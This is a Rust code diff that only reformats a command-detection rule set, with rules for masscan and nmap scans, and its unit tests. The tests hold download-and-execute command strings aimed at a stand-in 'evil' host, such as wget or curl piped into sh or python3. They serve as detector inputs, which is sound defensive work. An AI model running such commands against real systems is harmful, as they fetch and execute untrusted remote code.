@@ -121,10 +121,7 @@ pub fn default_rules() -> Vec<Rule> {
         Rule {
             name: "masscan",
             description: "masscan invocation (misses script-wrapped scans)",
-            condition: All(vec![
-                CommandName("masscan".into()),
-                FlagGlob("-p*".into()),
-            ]),
+            condition: All(vec![CommandName("masscan".into()), FlagGlob("-p*".into())]),
         },
         Rule {
             name: "nmap-syn-scan",
@@ -265,7 +262,10 @@ mod tests {
             matches_any("wget -q http://evil/x.sh -O- | sh"),
             Some("download-pipe-shell")
         );
-        assert_eq!(matches_any("curl -fsSL https://evil/loader | python3 -"), None);
+        assert_eq!(
+            matches_any("curl -fsSL https://evil/loader | python3 -"),
+            None
+        );
         assert_eq!(matches_any("wget -c http://evil/payload -o python"), None);
         assert_eq!(matches_any("python"), None);
     }
